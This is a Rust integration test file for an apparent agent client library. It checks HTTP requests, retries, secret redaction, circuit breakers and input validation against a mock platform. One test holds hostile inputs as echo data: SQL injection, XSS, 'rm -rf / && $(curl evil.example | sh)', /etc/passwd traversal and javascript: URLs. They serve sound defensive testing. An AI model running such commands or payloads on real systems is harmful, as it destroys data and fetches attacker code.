//! The operations besides the verbs, against the platform in a box.

mod support;

use std::collections::VecDeque;

use bytes::Bytes;
use kei_agent::feed::{Deliver, Reply};
use kei_agent::in_flight::Ticket;
use kei_agent::operation::Run;
use kei_agent::{Client, Runtime};
use serde_json::{Value, json};
use support::{Platform, call, leaks, runtime};

fn good(client: &Client, operation: &str, request: &Value) -> Value {
    call(client, operation, request, &json!({})).unwrap_or_else(|error| panic!("{operation}: {error}"))["result"]
        .clone()
}

fn bad(client: &Client, operation: &str, request: &Value) -> Value {
    call(client, operation, request, &json!({})).expect_err(operation)
}

#[test]
fn agents_are_registered_found_read_and_kept_alive() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client_with(&runtime, &json!({ "agent_id": "me" }));
    good(&client, "agents.register", &json!({ "name": "Me", "capabilities": ["read", { "name": "write" }] }));
    good(&client, "agents.register", &json!({ "agent_id": "you", "name": "You", "capabilities": ["read"] }));
    let ids = |request: Value| -> Vec<String> {
        let agents = good(&client, "agents.list", &request)["agents"].clone();
        agents.as_array().unwrap().iter().map(|agent| agent["agent_id"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(ids(json!({})), ["me", "you"]);
    assert_eq!(ids(json!({ "capabilities": ["write"] })), ["me"]);
    assert_eq!(ids(json!({ "limit": 1 })).len(), 1);
    assert_eq!(good(&client, "agents.get", &json!({}))["name"], "Me");
    assert_eq!(good(&client, "agents.get", &json!({ "agent_id": "you" }))["name"], "You");
    good(&client, "agents.heartbeat", &json!({ "readiness": "ready", "queue_length": 3 }));
    let wrong = bad(&client, "agents.heartbeat", &json!({ "readiness": "redy" }));
    assert!(wrong["message"].as_str().unwrap().contains("did you mean `ready`"), "{wrong}");
    assert_eq!(bad(&client, "agents.get", &json!({ "agent_id": "nobody" }))["name"], "KEI_E_NOT_FOUND");
    let sent = platform.requests("/api/v1/agents-mgmt/me/heartbeat");
    assert_eq!((sent.len(), &sent[0]["headers"]["x-agent-id"]), (1, &json!("me")));
}

#[test]
fn http_requests_of_every_kind_arrive_as_they_were_meant() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    let echo = "/api/v1/rpc/echo";
    let answer = good(&client, "http.request", &json!({ "method": "POST", "path": echo, "body": { "a": [1, 2.50] } }));
    assert_eq!((&answer["status"], &answer["body"]), (&json!(200), &json!({ "a": [1, 2.5] })));
    let form = json!({
        "method": "post", "url": format!("{}{echo}", platform.url), "text": "{\"b\": 1}",
        "headers": { "content-type": "application/json", "x-mine": "yes" },
    });
    assert_eq!(good(&client, "http.request", &form)["body"], json!({ "b": 1 }));
    let last = platform.requests(echo).pop().unwrap();
    assert_eq!(
        (&last["headers"]["x-mine"], &last["headers"]["content-type"]),
        (&json!("yes"), &json!("application/json"))
    );
    let list = json!({ "path": "/api/v1/registry/agents", "query": { "limit": "1" } });
    assert_eq!(good(&client, "http.request", &list)["body"]["agents"], json!([]));
    for (request, name) in [
        (json!({ "path": "/nothing/here" }), "KEI_E_NOT_FOUND"),
        (json!({ "path": "/x", "headers": { "authorization": "Bearer mine" } }), "KEI_E_OPTIONS"),
        (json!({ "path": "/x", "headers": { "a": "b\r\nc: d" } }), "KEI_E_OPTIONS"),
        (json!({ "url": "https://elsewhere.example/x" }), "KEI_E_REFUSED"),
        (json!({ "method": "TRACE", "path": "/x" }), "KEI_E_REQUEST"),
    ] {
        assert_eq!(bad(&client, "http.request", &request)["name"], name, "{request}");
    }
}

#[test]
fn http_requests_bring_what_the_server_said_of_a_failure_when_asked_to() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    let nowhere = json!({ "path": "/nothing/here", "error_for_status": false });
    let answer = good(&client, "http.request", &nowhere);
    assert_eq!(answer["status"], 404);
    assert!(answer["headers"]["content-type"].as_str().is_some_and(|kind| kind.contains("json")), "{answer}");
    assert!(answer["body"].is_object(), "{answer}");
    // All that is done about a failure has been done before.
    let path = "/api/v1/registry/agents";
    platform.fault(&json!({ "path": path, "status": 503, "times": 3, "retry_after": "0" }));
    let request = json!({ "path": path, "error_for_status": false });
    let unavailable = call(&client, "http.request", &request, &json!({ "meta": true })).unwrap();
    assert_eq!((&unavailable["result"]["status"], &unavailable["meta"]["attempts"]), (&json!(503), &json!(3)));
    assert_eq!(unavailable["result"]["headers"]["retry-after"], "0", "{unavailable}");
    assert_eq!(good(&client, "http.request", &request)["status"], 200);
    // What is not an answer is an error as before.
    let elsewhere = json!({ "url": "https://elsewhere.example/x", "error_for_status": false });
    assert_eq!(bad(&client, "http.request", &elsewhere)["name"], "KEI_E_REFUSED");
    let wrong = bad(&client, "http.request", &json!({ "path": "/x", "error_for_status": "no" }));
    assert!(wrong["message"].as_str().unwrap().contains("error_for_status"), "{wrong}");
}

#[test]
fn the_record_of_a_call_says_whether_it_succeeded_was_answered_or_failed() {
    let platform = Platform::start();
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("log");
    let runtime = Runtime::new(&json!({ "log": { "file": file, "level": "info" } }).to_string()).unwrap();
    let client = platform.client(&runtime);
    for request in [
        json!({ "path": "/api/v1/registry/agents" }),
        json!({ "path": "/nothing/here", "error_for_status": false }),
        json!({ "path": "/nothing/here" }),
    ] {
        let _ = call(&client, "http.request", &request, &json!({}));
    }
    runtime.shutdown(None).unwrap();
    let text = std::fs::read_to_string(file).unwrap();
    let records = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let said: Vec<_> = records
        .filter(|record| record["target"] == "kei_agent::call")
        .map(|record| (record["message"].as_str().unwrap().to_owned(), record["status"].clone()))
        .collect();
    let (succeeded, answered) = (("call succeeded".to_owned(), json!(200)), ("call answered".to_owned(), json!(404)));
    assert_eq!(said[..2], [succeeded, answered]);
    assert!(said[2].0.starts_with("call failed: the server answered 404"), "{said:?}");
}

#[test]
fn http_requests_are_repeated_when_their_method_or_the_caller_allows_it() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    let failing_once = |method: &str, path: &str, options: Value| {
        platform.fault(&json!({ "path": path, "method": method, "status": 503, "times": 1 }));
        let request = json!({ "method": method, "path": path, "body": {} });
        let outcome = call(&client, "http.request", &request, &options);
        platform.clear_faults();
        outcome.is_ok()
    };
    assert!(failing_once("GET", "/api/v1/registry/agents", json!({})));
    assert!(!failing_once("POST", "/api/v1/rpc/echo", json!({})));
    assert!(failing_once("POST", "/api/v1/rpc/echo", json!({ "idempotent": true })));
    assert!(failing_once("POST", "/api/v1/rpc/echo", json!({ "idempotency_key": "k" })));
}

#[test]
fn the_health_tells_a_missing_platform_from_a_missing_token() {
    let mut platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    let state = |client| {
        let health = good(client, "health.check", &json!({}));
        let checks = health["checks"].as_array().unwrap();
        let of = |name| checks.iter().find(|check| check["name"] == name).unwrap()["status"].clone();
        (health["status"].clone(), of("platform"), of("token"))
    };
    assert_eq!(state(&client), (json!("pass"), json!("pass"), json!("pass")));
    let wrong = platform.client_with(&runtime, &json!({ "auth": { "client_secret": "wrong-secret" } }));
    assert_eq!(state(&wrong), (json!("fail"), json!("pass"), json!("fail")));
    platform.stop();
    assert_eq!(state(&client), (json!("fail"), json!("fail"), json!("pass")), "the token in use still lives");
}

#[test]
fn no_secret_is_in_the_answers_that_the_library_makes_itself() {
    let platform = Platform::start();
    let runtime = runtime();
    let secret = "a-secret-that-servers-send-back";
    let client = platform.client_with(&runtime, &json!({ "auth": { "client_secret": secret } }));
    let fault = |path: &str, body: Value| {
        let headers = json!({ "content-type": "application/json" });
        platform.fault(&json!({ "path": path, "status": 400, "headers": headers, "body": body.to_string() }));
    };
    fault("/oidc/token", json!({ "error": "invalid_client", "error_description": format!("not {secret}") }));
    fault("/api/v1/health", json!({ "detail": format!("never {secret}") }));
    let mut all = String::new();
    for operation in ["health.check", "auth.status", "kei.info", "kei.describe"] {
        all += &good(&client, operation, &json!({})).to_string();
    }
    assert!(all.contains("not [REDACTED:client_secret:") && all.contains("never [REDACTED:client_secret:"), "{all}");
    leaks::assert_none(&[secret.to_owned()], &all, "the answers");
}

#[test]
fn the_status_of_the_token_is_told_without_the_token() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    assert_eq!(good(&client, "auth.status", &json!({}))["state"], "none");
    good(&client, "plan", &json!({ "objective": "compute 1 + 1" }));
    let status = good(&client, "auth.status", &json!({}));
    assert_eq!(
        (&status["state"], &status["generation"], &status["refreshes"]),
        (&json!("valid"), &json!(1), &json!(1))
    );
    assert!(!status.to_string().contains("eyJ") && !status.to_string().contains(platform.secret()));
}

#[test]
fn the_library_describes_every_operation_with_schemas_that_resolve() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    let document = good(&client, "kei.describe", &json!({}));
    let mut references = 0;
    walk(&document, &mut |reference| {
        references += 1;
        assert!(document.pointer(reference.strip_prefix('#').unwrap()).is_some(), "{reference} leads nowhere");
    });
    assert!(references > 20);
    let one = good(&client, "kei.describe", &json!({ "operation": "plan" }));
    assert_eq!(one["methods"].as_array().unwrap().len(), 1);
    let info = good(&client, "kei.info", &json!({}));
    assert_eq!(info["version"], env!("CARGO_PKG_VERSION"));
}

fn walk(value: &Value, found: &mut impl FnMut(&str)) {
    match value {
        Value::Object(fields) => {
            if let Some(Value::String(reference)) = fields.get("$ref") {
                found(reference);
            }
            fields.values().for_each(|inner| walk(inner, found));
        }
        Value::Array(items) => items.iter().for_each(|inner| walk(inner, found)),
        _ => {}
    }
}

#[test]
fn a_call_is_explained_without_a_secret_and_breakers_are_told_of_and_closed() {
    let platform = Platform::start();
    let runtime = runtime();
    let client =
        platform.client_with(&runtime, &json!({ "breaker": { "min_samples": 4 }, "retry": { "max_attempts": 2 } }));
    let path = "/api/v1/registry/agents";
    platform.fault(&json!({ "path": path, "status": 503, "times": 1 }));
    let id = json!({ "correlation_id": "the-one" });
    call(&client, "http.request", &json!({ "path": path }), &id).unwrap();
    let told = good(&client, "kei.explain", &json!({ "correlation_id": "the-one" }))["calls"].clone();
    let steps: Vec<_> = told[0]["steps"].as_array().unwrap().iter().map(|step| step["step"].clone()).collect();
    assert_eq!(steps, ["token", "attempt", "retry", "token", "attempt"], "{told}");
    assert_eq!((&told[0]["attempts"], &told[0]["http_status"]), (&json!(2), &json!(200)));
    // A secret that a server says back is in no story either.
    let secret = platform.secret().to_owned();
    let body = json!({ "title": format!("wrong: {secret}") }).to_string();
    let headers = json!({ "content-type": "application/problem+json" });
    platform.fault(&json!({ "path": path, "status": 500, "times": 2, "body": body, "headers": headers }));
    bad(&client, "http.request", &json!({ "path": path }));
    let failed = good(&client, "kei.explain", &json!({ "failed": true, "operation": "http.request" }));
    assert_eq!(failed["calls"].as_array().unwrap().len(), 1);
    assert!(failed["calls"][0]["message"].as_str().unwrap().contains("wrong: [REDACTED:"), "{failed}");
    leaks::assert_none(&[secret], &failed.to_string(), "the story");
    let status = good(&client, "breaker.status", &json!({}));
    assert_eq!(
        (&status["breakers"][0]["operation"], &status["breakers"][0]["state"]),
        (&json!("http.request"), &json!("open"))
    );
    assert_eq!(bad(&client, "http.request", &json!({ "path": path }))["name"], "KEI_E_BREAKER_OPEN");
    assert_eq!(good(&client, "breaker.reset", &json!({ "operation": "http.request" }))["reset"], 1);
    good(&client, "http.request", &json!({ "path": path }));
    assert_eq!(bad(&client, "kei.explain", &json!({ "limit": 0 }))["details"]["field"], "limit");
}

#[test]
fn honest_text_of_any_kind_passes_through_unchanged() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    let texts = [
        "SELECT name FROM users WHERE id = 1; DROP TABLE users; -- ' OR '1'='1",
        "<script>alert('x')</script> <img src=x onerror=alert(1)> &lt;b&gt; {{template}} ${variable}",
        "rm -rf / && $(curl evil.example | sh); `id` > /dev/null 2>&1 || exit 1; %s %n \\n",
        "Der Löschbefehl »DELETE« wählt – wie im Handbuch erklärt – aus der Union aller Tabellen; Straße, Maß, Übergröße.",
        "../../etc/passwd und C:\\Windows\\System32, ..%2f..%2f, javascript:alert(1), data:text/html,<b>",
        "a\ttab, a line\nand another\r\n, \u{1F600} \u{202E}right to left\u{202C}, \u{FEFF}mark, nul as words: \\u0000",
        "env:HOME file:/etc/passwd exec:true vault:secret/a#b changeme <TOKEN> your-api-token",
    ];
    for text in texts {
        let params = json!({ "text": text, text: [text, { "deeper": text }] });
        assert_eq!(good(&client, "rpc.call", &json!({ "method": "echo", "params": params })), params, "{text}");
        let sent = json!({ "method": "POST", "path": "/api/v1/rpc/echo", "body": { "text": text } });
        assert_eq!(good(&client, "http.request", &sent)["body"]["text"], text);
        let validated = good(&client, "kei.validate", &json!({ "value": text, "rule": "text" }));
        assert_eq!(validated, json!({ "valid": true, "problems": [] }), "{text}");
    }
}

/// Takes what a subscription brings, of which there must be none.
struct Nothing;

impl Deliver for Nothing {
    fn items(&self, _: VecDeque<Bytes>) {
        panic!("an item of a subscription that was refused");
    }
    fn state(&self, _: Vec<u8>) {
        panic!("a state of a subscription that was refused");
    }
    fn request(&self, _: Vec<u8>, _: Reply) -> kei_agent::Result<Box<dyn Send>> {
        panic!("a request of a subscription that was refused");
    }
}

#[test]
fn what_is_out_of_bounds_is_refused_by_every_operation_before_anything_is_sent() {
    let platform = Platform::start();
    let runtime = runtime();
    let limits = json!({ "max_depth": 8, "max_text_bytes": 100, "max_number_chars": 20, "max_request_bytes": 1000 });
    let client = platform.client_with(&runtime, &json!({ "limits": limits }));
    let deep = format!("{}1{}", "[".repeat(9), "]".repeat(9));
    let cases = [
        (r#"{"method":"echo","params":"x\u0000"}"#.to_owned(), "KEI_E_REQUEST", "`params` holds a control character"),
        (r#"{"method":"echo","params":"\ud800"}"#.to_owned(), "KEI_E_REQUEST", "`params` holds half a character"),
        (format!(r#"{{"method":"echo","params":"{}"}}"#, "x".repeat(101)), "KEI_E_REQUEST", "limits.max_text_bytes"),
        (format!(r#"{{"method":"echo","params":{}}}"#, "1".repeat(21)), "KEI_E_REQUEST", "limits.max_number_chars"),
        (r#"{"method":"echo","params":1e400}"#.to_owned(), "KEI_E_REQUEST", "is too large for a number"),
        (format!(r#"{{"method":"echo","params":{deep}}}"#), "KEI_E_JSON", "more than 8 levels deep"),
        (
            format!(r#"{{"method":"echo","params":"{}"}}"#, " ".repeat(1000)),
            "KEI_E_REQUEST_TOO_LARGE",
            "limits.max_request_bytes",
        ),
    ];
    let names: Vec<&str> = kei_agent::operations::all().map(|operation| operation.name).collect();
    for (request, name, why) in &cases {
        for operation in &names {
            let error = match kei_agent::operations::find(operation).unwrap().run {
                Run::Call(_) | Run::Local(_) => client.call(operation, request.as_bytes(), "").unwrap_err(),
                Run::Subscription { .. } => client
                    .subscribe((operation, request.as_bytes(), ""), &Ticket::new(), 1, Box::new(Nothing), |_| {
                        panic!("what was refused has no outcome")
                    })
                    .err()
                    .unwrap(),
            };
            assert_eq!(error.code.name(), *name, "{operation}: {error}");
            assert!(error.message.contains(why), "{operation}: {error}");
        }
    }
    let error = client.call("rpc.call", b"{\"method\":\"echo\",\"params\":\"\xff\"}", "").unwrap_err();
    assert_eq!(error.code.name(), "KEI_E_UTF8");
    for request in
        [json!({ "path": "/a/../b" }), json!({ "url": "file:///etc/passwd" }), json!({ "url": "javascript:x" })]
    {
        bad(&client, "http.request", &request);
    }
    assert!(platform.requests("/api/v1/rpc/echo").is_empty());
    let lenient = platform.client_with(&runtime, &json!({ "limits": { "control_characters": true } }));
    let text = json!({ "text": "\u{0}\u{1b}[31m" });
    assert_eq!(good(&lenient, "rpc.call", &json!({ "method": "echo", "params": text })), text);
}

#[test]
fn a_value_is_checked_against_a_rule_of_form() {
    let platform = Platform::start();
    let runtime = runtime();
    let client = platform.client(&runtime);
    for (request, problem) in [
        (json!({ "rule": "line", "value": "one line" }), ""),
        (json!({ "rule": "line", "value": "two\nlines" }), "must be one line"),
        (json!({ "rule": "name", "value": "a/b" }), "must be a plain name"),
        (json!({ "rule": "path", "value": "a/%2e%2e/b" }), "must stay below"),
        (json!({ "rule": "url", "value": "javascript:alert(1)" }), "begins with https:, http:"),
        (json!({ "rule": "url", "value": "wss://a.example", "schemes": ["wss"] }), ""),
        (json!({ "rule": "integer", "value": 1.5 }), "must be a whole number"),
        (json!({ "rule": "number", "value": 7, "maximum": 5 }), "must be at most 5"),
        (json!({ "rule": "text", "value": "äöü", "max_chars": 3, "max_bytes": 6 }), ""),
        (json!({ "rule": "text", "value": "äöü", "max_bytes": 5 }), "has 6 bytes, more than 5"),
        (json!({ "rule": "text", "value": 5 }), "must be a text"),
        (json!({ "rule": "json", "value": [[[1]]], "max_depth": 2 }), "more than 2 levels deep"),
    ] {
        let answer = good(&client, "kei.validate", &request);
        assert_eq!(answer["valid"], problem.is_empty(), "{request}: {answer}");
        assert!(answer["problems"].to_string().contains(problem), "{request}: {answer}");
    }
    let error = bad(&client, "kei.validate", &json!({ "rule": "pth", "value": "" }));
    assert!(error["message"].as_str().unwrap().contains("did you mean `path`?"), "{error}");
}
